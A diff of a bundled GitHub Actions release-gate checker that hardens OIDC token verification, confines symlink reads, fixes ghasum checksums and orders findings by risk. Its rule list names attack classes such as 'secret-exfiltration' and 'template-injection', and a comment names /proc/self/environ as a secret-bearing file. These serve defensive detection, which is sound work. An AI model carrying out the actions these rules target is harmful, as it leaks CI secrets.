-    url(path) {
-        return /^https?:\/\//.test(path) ? path : `${this.baseUrl}${path.startsWith('/') ? '' : '/'}${path}`;
-    }
-    /** Display form of a URL: path and query only, never credentials. */
-    show(u) {
-        try {
-            const x = new URL(u);
-            return `${x.pathname}${x.search}`;
-        }
-        catch {
-            return u;
-        }
-    }
-    /** How long to wait before retrying a response, or undefined when it should not be retried. */
-    retryDelay(res, attempt) {
-        const retryAfter = res.headers.get('retry-after');
-        const remaining = res.headers.get('x-ratelimit-remaining');
-        const reset = res.headers.get('x-ratelimit-reset');
-        if (res.status === 429 || res.status === 403) {
-            if (retryAfter && /^\d+$/.test(retryAfter))
-                return Number(retryAfter) * 1000;
-            if (remaining === '0' && reset && /^\d+$/.test(reset))
-                return Math.max(0, Number(reset) * 1000 - Date.now()) + 1000;
-            if (res.status === 429)
-                return this.backoffMs * 2 ** attempt;
-            return undefined; // a plain 403 is a permission problem, not a transient one
-        }
-        if (res.status >= 500)
-            return this.backoffMs * 2 ** attempt;
-        return undefined;
-    }
-    /** One GET with retries and redirects; returns the final response and its body. */
-    async request(path, accept = 'application/vnd.github+json') {
-        let url = this.url(path);
-        const origin = new URL(this.baseUrl).origin;
-        let attempt = 0;
-        let redirects = 0;
-        for (;;) {
-            const sameHost = new URL(url).origin === origin;
-            const headers = {
-                accept,
-                'user-agent': this.userAgent,
-                'x-github-api-version': '2022-11-28',
-            };
-            if (this.token && sameHost)
-                headers.authorization = `Bearer ${this.token}`;
-            const remainingBudget = this.deadline - Date.now();
-            if (remainingBudget <= 0) {
-                throw new ApiError(`time budget for GitHub API requests used up before ${this.show(url)}`, undefined, url, true);
-            }
-            this.requests++;
-            let res;
-            try {
-                res = await http_get(url, headers, Math.min(this.timeoutMs, remainingBudget), this.maxBytes);
-            }
-            catch (e) {
-                if (e instanceof BodyTooLarge)
-                    throw new ApiError(`the response to ${this.show(url)} is ${e.message}, over the ${this.maxBytes}-byte limit`, undefined, url, false);
-                const why = e instanceof Timeout ? e.message : e instanceof Error ? e.message : String(e);
-                if (attempt < this.retries && Date.now() + this.backoffMs * 2 ** attempt < this.deadline) {
-                    await sleep(this.backoffMs * 2 ** attempt);
-                    attempt++;
-                    continue;
-                }
-                throw new ApiError(`GET ${this.show(url)} failed: ${why}`, undefined, url, true);
-            }
-            const body = res.body;
-            if ([301, 302, 303, 307, 308].includes(res.status)) {
-                const loc = res.headers.get('location');
-                if (!loc || ++redirects > 5)
-                    throw new ApiError(`GET ${this.show(url)}: too many redirects or no Location`, res.status, url, false);
-                url = new URL(loc, url).toString();
-                continue;
-            }
-            const delay = this.retryDelay(res, attempt);
-            if (delay !== undefined && attempt < this.retries) {
-                if (Date.now() + delay >= this.deadline) {
-                    throw new ApiError(`GET ${this.show(url)}: HTTP ${res.status}${res.headers.get('x-ratelimit-remaining') === '0' ? ' (rate limit reached)' : ''}; waiting ${Math.ceil(delay / 1000)} s would exceed the time budget`, res.status, url, true);
-                }
-                await sleep(delay);
-                attempt++;
-                continue;
-            }
-            return { status: res.status, body, headers: res.headers, url };
-        }
-    }
-    /** GET a JSON document; 404 gives `undefined`, other failures throw ApiError. */
-    async getJson(path) {
-        const r = await this.request(path);
-        if (r.status === 404)
-            return undefined;
-        if (r.status < 200 || r.status >= 300)
-            throw this.httpError(r);
-        try {
-            return { status: r.status, data: JSON.parse(r.body.toString('utf8')), headers: r.headers };
-        }
-        catch {
-            throw new ApiError(`GET ${this.show(r.url)}: the response is not valid JSON`, r.status, r.url, true);
-        }
-    }
-    httpError(r) {
-        let msg = '';
-        try {
-            msg = JSON.parse(r.body.toString('utf8')).message ?? '';
-        }
-        catch {
-            /* not JSON */
-        }
-        const limited = r.headers.get('x-ratelimit-remaining') === '0';
-        const hint = r.status === 401
-            ? ' (the token was refused)'
-            : r.status === 403 && limited
-                ? ' (rate limit reached)'
-                : r.status === 403
-                    ? ' (the token lacks a permission: give the job `contents: read`)'
-                    : '';
-        return new ApiError(`GET ${this.show(r.url)}: HTTP ${r.status}${hint}${msg ? `: ${msg.slice(0, 200)}` : ''}`, r.status, r.url, r.status >= 500 || r.status === 429 || limited);
-    }
-    /**
-     * A file's text at a ref through the contents API. Returns `undefined` when the file does
-     * not exist at that ref; throws for directories, submodules and other failures.
-     */
-    async getFile(owner, repo, path, ref) {
-        const p = `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}/contents/${path.split('/').map(encodeURIComponent).join('/')}?ref=${encodeURIComponent(ref)}`;
-        const r = await this.getJson(p);
-        if (!r)
-            return undefined;
-        const d = r.data;
-        if (Array.isArray(d))
-            throw new ApiError(`${owner}/${repo}/${path} at ${ref} is a directory, not a file`, r.status, p, false);
-        const o = d;
-        if (o.type && o.type !== 'file')
-            throw new ApiError(`${owner}/${repo}/${path} at ${ref} is a ${o.type}, not a file`, r.status, p, false);
-        if (o.encoding === 'base64' && typeof o.content === 'string')
-            return decodeUtf8(Buffer.from(o.content, 'base64'), `${owner}/${repo}/${path}`);
-        // Files of 1-100 MB come back with encoding "none": ask for the raw bytes.
-        const raw = await this.request(p, 'application/vnd.github.raw+json');
-        if (raw.status === 404)
-            return undefined;
-        if (raw.status !== 200)
-            throw this.httpError(raw);
-        return decodeUtf8(raw.body, `${owner}/${repo}/${path}`);
-    }
 }
 
 ;// CONCATENATED MODULE: ./src/resolve/cache.ts
@@ -37391,7 +41861,7 @@ async function goOnline(t, o) {
         return;
     let scope;
     try {
-        scope = selectScope(wf, t.jobId);
+        scope = selectScope(wf, t.jobId, t.local);
     }
     catch {
         return; // the engine reports the missing job
@@ -37443,74 +41913,181 @@ async function goOnline(t, o) {
  * The job's OIDC token, minted with a gate-specific audience. Its claims are signed by
  * GitHub, so they are preferred to environment variables a step could have changed: inside a
  * reusable workflow, `job_workflow_ref` names the file that defines the running job, while
- * `GITHUB_WORKFLOW_REF` names the caller. The signature is checked against the issuer's
- * published keys; the token itself is never printed or stored.
+ * `GITHUB_WORKFLOW_REF` names the caller. The signature is checked against the keys of the
+ * issuer pinned by the server the run is on (never the token's own `iss`), with audience,
+ * expiry, repository and commit held against the run; claims that do not verify are never
+ * used. The token itself is never printed or stored.
  */
 
+
 const GATE_AUDIENCE = 'release-gate';
+/**
+ * The ID token cannot be trusted: the request URL is not the runner's, or the token does not
+ * verify against the pinned issuer's keys, or its claims are not this run's. A blocking result:
+ * someone inside the job is handing the gate forged claims.
+ */
+class TamperError extends Error {
+}
+/**
+ * The issuer the keys are fetched from, pinned by the server the run is on, never read from
+ * the token: `https://token.actions.githubusercontent.com`, or `https://HOST/_services/token`
+ * on GitHub Enterprise Server.
+ */
+function pinnedIssuer(serverUrl) {
+    const u = new URL(serverUrl);
+    if (u.hostname.toLowerCase() === 'github.com')
+        return 'https://token.actions.githubusercontent.com';
+    return `${u.origin}/_services/token`;
+}
+/**
+ * Is the ID-token request URL one the runner gives? On github.com a host under
+ * `actions.githubusercontent.com`; on GitHub Enterprise Server the server's own host (or a host
+ * under it). Hosts compare case-insensitively, as DNS does.
+ */
+function requestUrlAllowed(requestUrl, serverUrl) {
+    let u;
+    try {
+        u = new URL(requestUrl);
+    }
+    catch {
+        return false;
+    }
+    const server = new URL(serverUrl);
+    const host = u.hostname.toLowerCase();
+    if (server.hostname.toLowerCase() === 'github.com')
+        return u.protocol === 'https:' && (host === 'actions.githubusercontent.com' || host.endsWith('.actions.githubusercontent.com'));
+    const sh = server.hostname.toLowerCase();
+    return u.protocol === server.protocol && (host === sh || host.endsWith(`.${sh}`));
+}
 function b64url(s) {
     return Buffer.from(s.replace(/-/g, '+').replace(/_/g, '/'), 'base64');
 }
 function decodeJwt(jwt) {
     const parts = jwt.split('.');
     if (parts.length !== 3)
-        throw new Error('the ID token is not a JWT');
-    return {
-        header: JSON.parse(b64url(parts[0]).toString('utf8')),
-        claims: JSON.parse(b64url(parts[1]).toString('utf8')),
-        signed: Buffer.from(`${parts[0]}.${parts[1]}`),
-        sig: b64url(parts[2]),
-    };
+        throw new TamperError('the ID token is not a JWT');
+    try {
+        return {
+            header: JSON.parse(b64url(parts[0]).toString('utf8')),
+            claims: JSON.parse(b64url(parts[1]).toString('utf8')),
+            signed: Buffer.from(`${parts[0]}.${parts[1]}`),
+            sig: b64url(parts[2]),
+        };
+    }
+    catch {
+        throw new TamperError('the ID token is not a JWT');
+    }
 }
+/** GET JSON through the proxy-aware client (Node's fetch ignores HTTPS_PROXY); redirects are errors. */
 async function getJson(url, headers, timeoutMs) {
-    const res = await fetch(url, { headers, signal: AbortSignal.timeout(timeoutMs), redirect: 'error' });
-    if (!res.ok)
+    const res = await http_get(url, headers, timeoutMs, 1024 * 1024);
+    if (res.status < 200 || res.status >= 300)
         throw new Error(`HTTP ${res.status} from ${new URL(url).host}`);
-    return res.json();
+    try {
+        return JSON.parse(res.body.toString('utf8'));
+    }
+    catch {
+        throw new Error(`the answer from ${new URL(url).host} is not JSON`);
+    }
+}
+/** The pinned issuer's signing keys. Its configuration may name the key set only on its own origin. */
+async function issuerKeys(issuer, timeoutMs) {
+    const origin = new URL(issuer).origin;
+    let jwksUri = `${issuer}/.well-known/jwks`;
+    try {
+        const cfg = (await getJson(`${issuer}/.well-known/openid-configuration`, { accept: 'application/json' }, timeoutMs));
+        if (typeof cfg?.jwks_uri === 'string') {
+            if (new URL(cfg.jwks_uri).origin !== origin)
+                throw new TamperError(`the issuer's configuration names keys on another host (${new URL(cfg.jwks_uri).host})`);
+            jwksUri = cfg.jwks_uri;
+        }
+    }
+    catch (e) {
+        if (e instanceof TamperError)
+            throw e;
+    }
+    const jwks = (await getJson(jwksUri, { accept: 'application/json' }, timeoutMs));
+    return Array.isArray(jwks?.keys) ? jwks.keys : [];
+}
+/** Claims against the run: issuer, audience, time, repository and commit. Throws TamperError. */
+function checkClaims(c, issuer, expect) {
+    const now = expect.now ?? Math.floor(Date.now() / 1000);
+    const skew = 60;
+    if (String(c.iss ?? '').replace(/\/+$/, '') !== issuer)
+        throw new TamperError(`the ID token was issued by '${String(c.iss)}', not by ${issuer}`);
+    const aud = Array.isArray(c.aud) ? c.aud : [c.aud];
+    if (!aud.includes(GATE_AUDIENCE))
+        throw new TamperError(`the ID token's audience is '${String(c.aud)}', not '${GATE_AUDIENCE}'`);
+    if (typeof c.exp !== 'number')
+        throw new TamperError('the ID token has no expiry');
+    if (c.exp + skew < now)
+        throw new TamperError('the ID token has expired');
+    if (typeof c.nbf === 'number' && c.nbf - skew > now)
+        throw new TamperError('the ID token is not valid yet');
+    if (expect.repository && typeof c.repository === 'string' && c.repository.toLowerCase() !== expect.repository.toLowerCase())
+        throw new TamperError(`the ID token is for repository '${c.repository}', but this run is in '${expect.repository}'`);
+    if (expect.repository && typeof c.repository !== 'string')
+        throw new TamperError('the ID token names no repository');
+    if (expect.sha && typeof c.sha === 'string' && c.sha.toLowerCase() !== expect.sha.toLowerCase())
+        throw new TamperError(`the ID token is for commit ${c.sha}, but this run is at ${expect.sha}`);
 }
 /**
- * Mint and read the job's ID token. Returns undefined when the job cannot mint one (no
- * `id-token: write`: the request variables are absent).
+ * Mint and verify the job's ID token. Returns undefined when the job cannot mint one (no
+ * `id-token: write`: the request variables are absent). Throws TamperError when the request
+ * URL is not the runner's or the token does not verify against the pinned issuer's keys, and
+ * Error when the token could not be minted at all.
  */
-async function mintIdToken(env, timeoutMs = 10_000) {
+async function mintIdToken(env, expect, timeoutMs = 10_000) {
     const url = env.ACTIONS_ID_TOKEN_REQUEST_URL;
     const token = env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
     if (!url || !token)
         return undefined;
+    if (!requestUrlAllowed(url, expect.serverUrl)) {
+        let host = url;
+        try {
+            host = new URL(url).host;
+        }
+        catch {
+            /* not a URL: named as given */
+        }
+        throw new TamperError(`ACTIONS_ID_TOKEN_REQUEST_URL points at ${host}, which is not the runner's token service for ${new URL(expect.serverUrl).host}`);
+    }
     const u = new URL(url);
     u.searchParams.set('audience', GATE_AUDIENCE);
     const body = (await getJson(u.toString(), { authorization: `Bearer ${token}`, accept: 'application/json' }, timeoutMs));
     if (typeof body?.value !== 'string')
         throw new Error('the ID token request returned no token');
     const jwt = decodeJwt(body.value);
-    const c = jwt.claims;
-    if (c.aud !== GATE_AUDIENCE)
-        throw new Error(`the ID token's audience is '${String(c.aud)}', not '${GATE_AUDIENCE}'`);
-    if (typeof c.exp === 'number' && c.exp * 1000 < Date.now())
-        throw new Error('the ID token has expired');
+    const issuer = pinnedIssuer(expect.serverUrl);
+    if (jwt.header.alg !== 'RS256')
+        throw new TamperError(`the ID token is signed with '${String(jwt.header.alg)}', not RS256`);
+    let keys;
     try {
-        if (jwt.header.alg !== 'RS256' || !c.iss)
-            throw new Error(`unexpected algorithm ${jwt.header.alg}`);
-        const cfg = (await getJson(`${c.iss.replace(/\/+$/, '')}/.well-known/openid-configuration`, { accept: 'application/json' }, timeoutMs));
-        const jwks = (await getJson(cfg.jwks_uri ?? `${c.iss.replace(/\/+$/, '')}/.well-known/jwks`, { accept: 'application/json' }, timeoutMs));
-        const jwk = jwks.keys?.find((k) => k.kid === jwt.header.kid);
-        if (!jwk)
-            throw new Error(`no key ${jwt.header.kid} in the issuer's JWKS`);
-        const ok = (0,external_node_crypto_.verify)('RSA-SHA256', jwt.signed, (0,external_node_crypto_.createPublicKey)({ key: jwk, format: 'jwk' }), jwt.sig);
-        if (!ok)
-            throw new Error('the ID token signature does not verify');
-        return { claims: c, verified: true };
+        keys = await issuerKeys(issuer, timeoutMs);
     }
     catch (e) {
-        const msg = e instanceof Error ? e.message : String(e);
-        if (/does not verify/.test(msg))
+        if (e instanceof TamperError)
             throw e;
-        return { claims: c, verified: false, note: msg };
+        throw new TamperError(`the ID token could not be verified: the keys of ${issuer} could not be read (${e instanceof Error ? e.message : String(e)})`);
     }
+    const jwk = keys.find((k) => k.kid === jwt.header.kid && (k.kty === undefined || k.kty === 'RSA'));
+    if (!jwk)
+        throw new TamperError(`the ID token is signed with key '${String(jwt.header.kid)}', which ${issuer} does not publish`);
+    let ok = false;
+    try {
+        ok = (0,external_node_crypto_.verify)('RSA-SHA256', jwt.signed, (0,external_node_crypto_.createPublicKey)({ key: jwk, format: 'jwk' }), jwt.sig);
+    }
+    catch {
+        ok = false;
+    }
+    if (!ok)
+        throw new TamperError('the ID token signature does not verify');
+    checkClaims(jwt.claims, issuer, expect);
+    return { claims: jwt.claims, verified: true };
 }
 
 ;// CONCATENATED MODULE: ./src/report/tree.ts
-function label(n, value) {
+function tree_label(n, value) {
     if (!n)
         return value;
     const sha = n.sha && n.sha.toLowerCase() !== n.uses.ref.toLowerCase() ? ` → ${n.sha.slice(0, 12)}` : '';
@@ -37532,7 +42109,7 @@ function renderTree(res, title) {
         const pad0 = lastJob ? '    ' : '│   ';
         const walk = (n, value, pad, last, path) => {
             const cyc = n && path.has(n.id);
-            lines.push(`${pad}${last ? '└── ' : '├── '}${cyc ? `${value} (cycle)` : label(n, value)}`);
+            lines.push(`${pad}${last ? '└── ' : '├── '}${cyc ? `${value} (cycle)` : tree_label(n, value)}`);
             if (!n || cyc)
                 return;
             const next = new Set(path).add(n.id);
@@ -37552,22 +42129,28 @@ function renderTree(res, title) {
 
 ;// CONCATENATED MODULE: ./src/resolve/dirhash.ts
 /**
- * Go's dirhash "h1" (golang.org/x/mod/sumdb/dirhash.Hash1), which ghasum records: for every
- * file, relative `/` paths sorted, a line `<hex sha256>  <path>\n`; the SHA-256 of those lines,
- * base64, prefixed `h1:`. Also git's blob SHA-1, to compare files with a commit's tree.
+ * Go's dirhash "h1" (golang.org/x/mod/sumdb/dirhash.Hash1): for every file, relative `/` paths
+ * sorted by their UTF-8 bytes (Go's sort.Strings), a line `<hex sha256>  <path>\n`; the SHA-256
+ * of those lines, base64, prefixed `h1:`. ghasum records it in gha.sum **without** the prefix
+ * (chains-project/ghasum internal/ghasum/atoms.go: `strings.Replace(checksum, "h1:", "", 1)`),
+ * so the functions here return the bare base64 that gha.sum holds. Also git's blob SHA-1, to
+ * compare files with a commit's tree.
  */
 
 
 
+
+/** Go's string order: by UTF-8 bytes (JS `<` compares UTF-16 units, which differs above U+FFFF). */
+function byUtf8(a, b) {
+    return Buffer.compare(Buffer.from(a.path, 'utf8'), Buffer.from(b.path, 'utf8'));
+}
+/** ghasum's checksum of a set of files: dirhash Hash1 without `h1:` (bare base64). */
+function ghasumSum(files) {
+    return ghasumSumFromDigests(files.map((f) => ({ path: f.path, sha256: createHash('sha256').update(f.data).digest('hex') })));
+}
+/** Go's dirhash.Hash1 string, `h1:` included (what go.sum holds). */
 function h1(files) {
-    const sorted = [...files].sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
-    const h = createHash('sha256');
-    for (const f of sorted) {
-        if (f.path.includes('\n'))
-            throw new Error(`dirhash: file name with newline: ${JSON.stringify(f.path)}`);
-        h.update(`${createHash('sha256').update(f.data).digest('hex')}  ${f.path}\n`);
-    }
-    return `h1:${h.digest('base64')}`;
+    return `h1:${ghasumSum(files)}`;
 }
 function gitBlobSha(data) {
     return (0,external_node_crypto_.createHash)('sha1').update(`blob ${data.length}\0`).update(data).digest('hex');
@@ -37581,6 +42164,10 @@ async function readTree(dir, want = { git: true, sha256: true }, limits = { file
     const out = [];
     let bytes = 0;
     const stack = [{ abs: dir, rel: '' }];
+    // a symlink is followed only to a file inside `dir`: never to the runner's other files
+    // (`/proc/self/environ`, another action's directory, a FIFO that never ends)
+    const root = (0,external_node_fs_namespaceObject.realpathSync)(dir);
+    const inside = (p) => p === root || p.startsWith(root.endsWith(external_node_path_namespaceObject.sep) ? root : root + external_node_path_namespaceObject.sep);
     while (stack.length) {
         const { abs, rel } = stack.pop();
         for (const e of (0,external_node_fs_namespaceObject.readdirSync)(abs, { withFileTypes: true })) {
@@ -37599,8 +42186,9 @@ async function readTree(dir, want = { git: true, sha256: true }, limits = { file
                 let sha256;
                 if (want.sha256) {
                     try {
-                        if ((0,external_node_fs_namespaceObject.statSync)(full).isFile())
-                            sha256 = (0,external_node_crypto_.createHash)('sha256').update((0,external_node_fs_namespaceObject.readFileSync)(full)).digest('hex');
+                        const real = (0,external_node_fs_namespaceObject.realpathSync)(full);
+                        if (inside(real) && (0,external_node_fs_namespaceObject.statSync)(real).isFile())
+                            sha256 = (0,external_node_crypto_.createHash)('sha256').update((0,external_node_fs_namespaceObject.readFileSync)(real)).digest('hex');
                     }
                     catch {
                         sha256 = undefined;
@@ -37617,26 +42205,26 @@ async function readTree(dir, want = { git: true, sha256: true }, limits = { file
             out.push({ path, mode, ...(want.git ? { gitSha: gitBlobSha(data) } : {}), ...(want.sha256 ? { sha256: (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex') } : {}) });
         }
     }
-    return out.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
+    return out.sort(byUtf8);
 }
-/** h1 from files already hashed (path and SHA-256 hex). */
-function h1FromDigests(files) {
-    const sorted = [...files].sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
+/** ghasum's checksum from files already hashed (path and SHA-256 hex). */
+function ghasumSumFromDigests(files) {
+    const sorted = [...files].sort(byUtf8);
     const h = (0,external_node_crypto_.createHash)('sha256');
     for (const f of sorted) {
         if (f.path.includes('\n'))
             throw new Error(`dirhash: file name with newline: ${JSON.stringify(f.path)}`);
         h.update(`${f.sha256}  ${f.path}\n`);
     }
-    return `h1:${h.digest('base64')}`;
+    return h.digest('base64');
 }
-/** h1 of a directory on disk, as ghasum computes it over the runner's download. */
+/** ghasum's checksum of a directory on disk (bare base64), as `ghasum verify -cache` computes it over the runner's download. */
 async function hashDir(dir) {
     const files = await readTree(dir, { sha256: true });
     const dangling = files.find((f) => f.sha256 === undefined);
     if (dangling)
         throw new Error(`${dangling.path} is a symbolic link to nothing readable`);
-    return h1FromDigests(files);
+    return ghasumSumFromDigests(files);
 }
 
 ;// CONCATENATED MODULE: ./src/resolve/integrity.ts
@@ -37832,7 +42420,73 @@ async function checkJobIntegrity(res, job, root, lock, api) {
     return { results, failures };
 }
 
+;// CONCATENATED MODULE: ./src/report/order.ts
+
+const RISK_ORDER = [
+    // a secret or the environment leaving the runner
+    'secret-exfiltration',
+    // code that is not what the workflow names, or is known to be bad
+    'integrity-mismatch',
+    'impostor-commit',
+    'known-vulnerable-actions',
+    // the gate's verdict bypassed: loaded code, an ignored failure, a job that does not wait
+    'poisoned-environment',
+    'ungated-publishing',
+    // attacker-controlled events and text reaching the publishing job
+    'dangerous-triggers',
+    'template-injection',
+    // long-lived credentials and secrets handed out wholesale
+    'overprovisioned-secrets',
+    'use-trusted-publishing',
+    'secrets-inherit',
+    // what is published, and where it is built
+    'unverified-artifact',
+    'self-hosted-runner',
+    'cache-poisoning',
+    // privileges and protections
+    'excessive-permissions',
+    'artipacked',
+    'missing-environment',
+    'unprotected-environment',
+    'unintentional-trigger',
+    // pins and locks
+    'unlocked-dependency',
+    'unpinned-transitive-uses',
+    'unpinned-uses',
+    'unpinned-images',
+    'ref-version-mismatch',
+    // the gate's own hygiene
+    'gate-order',
+    'invalid-workflow',
+    'ignore-without-reason',
+];
+/** Rank of a rule by risk; rules not listed sort after the listed ones, by id. */
+function riskRank(rule) {
+    const i = RISK_ORDER.indexOf(rule);
+    return i < 0 ? RISK_ORDER.length : i;
+}
+/**
+ * Findings grouped by rule, groups by risk (then severity, then id), findings inside a group in
+ * report order (file, line).
+ */
+function groupByRule(findings) {
+    const groups = new Map();
+    for (const f of findings) {
+        let g = groups.get(f.rule);
+        if (!g)
+            groups.set(f.rule, (g = { rule: f.rule, title: f.title, docs: f.docs, findings: [] }));
+        g.findings.push(f);
+    }
+    const top = (g) => Math.max(...g.findings.map((f) => SEVERITY_RANK[f.severity]));
+    return [...groups.values()].sort((a, b) => riskRank(a.rule) - riskRank(b.rule) || top(b) - top(a) || (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : 0));
+}
+/** The distinct values of a list, in first-seen order. */
+function distinct(xs) {
+    return [...new Set(xs)];
+}
+
 ;// CONCATENATED MODULE: ./src/report/annotations.ts
+
 /** GitHub renders only this many annotations of one level per step. */
 const MAX_PER_LEVEL = 10;
 function level(f) {
@@ -37844,11 +42498,23 @@ function level(f) {
 function plain(text) {
     return text.replace(/`+ ?([^`]*?) ?`+/g, '$1');
 }
+/**
+ * Annotations in the order they matter: blocking first, then what could not be checked, then
+ * by risk (RISK_ORDER), then report order; so when GitHub's cap cuts the list, the secret sent
+ * away is shown and the tenth unpinned action is not.
+ */
+function byRisk(findings) {
+    const rank = (f) => (f.rule === 'check-failed' ? -1 : riskRank(f.rule));
+    return findings
+        .map((f, i) => ({ f, i }))
+        .sort((a, b) => Number(b.f.blocking) - Number(a.f.blocking) || rank(a.f) - rank(b.f) || a.i - b.i)
+        .map((x) => x.f);
+}
 function annotations(r) {
     const list = [];
     const perLevel = { error: 0, warning: 0, notice: 0 };
     let omitted = 0;
-    for (const f of r.findings) {
+    for (const f of byRisk(r.findings)) {
         if (f.ignored)
             continue;
         const lv = level(f);
@@ -37949,6 +42615,41 @@ function md(text, cell = false) {
     })
         .join('');
 }
+/** Characters after which a long value may break across lines. */
+const BREAK_AFTER = new Set(['/', '@', '-', '.', ':']);
+/**
+ * A value as `<code>` that wraps inside a narrow table cell: a `<wbr>` after separators and
+ * every 20 characters of an unbroken run (a SHA), so a long `uses:` value never pushes the
+ * "What to do" column off the page. The text is escaped like plain text, and the `<wbr>`s also
+ * keep URLs and e-mail addresses from turning into links.
+ */
+function wrappingCode(value) {
+    let out = '';
+    let run = 0;
+    for (const ch of value.replace(/\r?\n/g, ' ')) {
+        out += escapePlain(ch);
+        run = ch === ' ' ? 0 : run + 1;
+        if (BREAK_AFTER.has(ch) || run >= 20) {
+            out += '<wbr>';
+            run = 0;
+        }
+    }
+    return `<code>${out.replace(/(<wbr>)+$/, '')}</code>`;
+}
+/** Code-span content as CommonMark reads it: fences off, one padding space each side stripped. */
+function spanContent(span) {
+    let n = 0;
+    while (span[n] === '`')
+        n++;
+    const inner = span.slice(n, span.length - n);
+    return inner.length > 1 && inner.startsWith(' ') && inner.endsWith(' ') && inner.trim() !== '' ? inner.slice(1, -1) : inner;
+}
+/** For table cells: like `md`, with code spans as {@link wrappingCode}. */
+function mdCell(text) {
+    return segments(text)
+        .map((seg) => (seg.code ? wrappingCode(spanContent(seg.s)) : escapePlain(seg.s)))
+        .join('');
+}
 /** For text inside HTML elements (`<summary>`), where Markdown is not parsed. */
 function escapeHtml(s) {
     return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/\r?\n/g, ' ');
@@ -37977,63 +42678,128 @@ function chainText(f) {
 
 ;// CONCATENATED MODULE: ./src/report/summary.ts
 /**
- * The job summary: verdict first, then a table of what blocks and what to do, then what was
- * not checked, then details. Read in ten seconds; everything from the workflow is escaped.
+ * The job summary: the verdict, then what to do — blocking findings ordered by what they risk,
+ * one row per rule (with its count and every location, each a link to the line) — then the
+ * checks that could not run, apart from findings, then what was not checked by design. Details
+ * only where they add something (the chain of a transitive finding). Everything from the
+ * workflow is escaped.
  */
 
 
 
+
+const SUMMARY_MODES = (/* unused pure expression or super */ null && (['full', 'failures', 'off']));
 /** GitHub refuses a step summary over 1 MiB; stay well under it. */
 const MAX_SUMMARY = 900 * 1024;
+/** Locations listed in one row before the rest are counted. */
+const MAX_LOCATIONS = 10;
+/** Rules whose fix is made in the repository's environment settings. */
+const ENVIRONMENT_RULES = new Set(['missing-environment', 'unprotected-environment']);
 function plural(n, one, many = `${one}s`) {
     return `${n} ${n === 1 ? one : many}`;
 }
 function verdictLine(r) {
-    const unchecked = r.findings.filter((f) => f.rule === 'check-failed' && !f.ignored).length;
+    const active = r.findings.filter((f) => !f.ignored);
+    const unchecked = active.filter((f) => f.rule === 'check-failed').length;
+    const count = (s) => active.filter((f) => f.severity === s && f.rule !== 'check-failed').length;
     const sev = ['error', 'warning', 'note']
-        .map((s) => (r.counts[s] ? `${r.counts[s]} ${s}${r.counts[s] > 1 ? 's' : ''}` : ''))
+        .map((s) => (count(s) ? plural(count(s), s) : ''))
         .filter(Boolean)
         .join(', ');
     if (r.verdict === 'fail') {
-        return `❌ Release blocked: ${plural(r.counts.blocking, 'blocking finding')}${sev ? ` (${sev})` : ''}${unchecked ? `, ${plural(unchecked, 'check')} not carried out` : ''}`;
+        const found = active.filter((f) => f.blocking && f.rule !== 'check-failed').length;
+        const parts = [found || !unchecked ? `${plural(found, 'blocking finding')}${sev ? ` (${sev})` : ''}` : '', unchecked ? `${plural(unchecked, 'check')} not carried out` : ''].filter(Boolean);
+        return `❌ Release blocked: ${parts.join(', ')}`;
     }
-    const rest = r.findings.filter((f) => !f.ignored).length;
-    return `✅ Release gate passed${rest ? `: ${plural(rest, 'finding')} below \`fail-on: ${r.failOn}\` (${sev})` : ': no findings'}`;
+    return `✅ Release gate passed${active.length ? `: ${plural(active.length, 'finding')} below \`fail-on: ${r.failOn}\`${sev ? ` (${sev})` : ''}` : ': no findings'}`;
 }
-function row(f) {
-    return `| [${f.rule}](${f.docs}) | ${md(`${code(where_location(f))}${jobStep(f) ? ` · ${jobStep(f)}` : ''}`, true)} | ${md(f.message, true)} | ${md(f.fix, true)} |`;
+/** Repository paths link to their line; other files (`owner/repo/...` of a sweep) do not. */
+function lineUrl(f, links) {
+    if (!links || /^(\/|[a-z]+:|\.\.)/i.test(f.file) || f.file.includes('@'))
+        return undefined;
+    const path = f.file.replace(/^\.\//, '').split('/').map(encodeURIComponent).join('/');
+    return `${links.server}/${links.repo}/blob/${links.sha}/${path}#L${f.line}`;
 }
-function table(fs) {
-    return ['| Rule | Where | Problem | What to do |', '| --- | --- | --- | --- |', ...fs.map(row)];
+/** `file:line` as a link to the line when the repository is known, else as code. */
+function where(f, links) {
+    const url = lineUrl(f, links);
+    const text = `${f.file}:${f.line}`;
+    return url ? `[${escapePlain(text).replace(/\//g, '/<wbr>')}](${url})` : mdCell(code(where_location(f)));
+}
+function envLink(g, links) {
+    if (!ENVIRONMENT_RULES.has(g.rule) || !links?.environments)
+        return '';
+    return `<br>[Open the environment settings](${links.server}/${links.environments}/settings/environments)`;
+}
+function row(g, links) {
+    const fs = g.findings;
+    const rule = `[${g.rule}](${g.docs})`;
+    if (fs.length === 1) {
+        const f = fs[0];
+        const js = jobStep(f);
+        return `| ${rule} | ${where(f, links)}${js ? ` · ${mdCell(js)}` : ''} | ${mdCell(f.message)}${f.chain.length ? ' (chain below)' : ''} | ${mdCell(f.fix)}${envLink(g, links)} |`;
+    }
+    const shown = fs.slice(0, MAX_LOCATIONS);
+    const locs = shown.map((f) => `${where(f, links)}${f.subject ? ` ${mdCell(code(f.subject))}` : f.job ? ` · job ${mdCell(code(f.job))}` : ''}`);
+    if (fs.length > shown.length)
+        locs.push(`and ${fs.length - shown.length} more (JSON report)`);
+    const fixes = distinct(fs.map((f) => f.fix));
+    const todo = fixes.length <= 3 ? fixes.map(mdCell).join('<br>') : `${mdCell(fixes[0])}<br>… and ${fixes.length - 1} more of this kind, one per location: each line's annotation says exactly what`;
+    return `| ${rule}<br>×${fs.length} | ${locs.join('<br>')} | ${escapePlain(g.title)} | ${todo}${envLink(g, links)} |`;
+}
+function table(findings, links) {
+    return ['| Rule | Where | Problem | What to do |', '| --- | --- | --- | --- |', ...groupByRule(findings).map((g) => row(g, links))];
+}
+function couldNotCheck(fs, links) {
+    return ['| Where | What could not be checked | What to do |', '| --- | --- | --- |', ...fs.map((f) => `| ${where(f, links)} | ${mdCell(f.message)} | ${mdCell(f.fix)} |`)];
 }
 function details(f) {
-    const lines = [
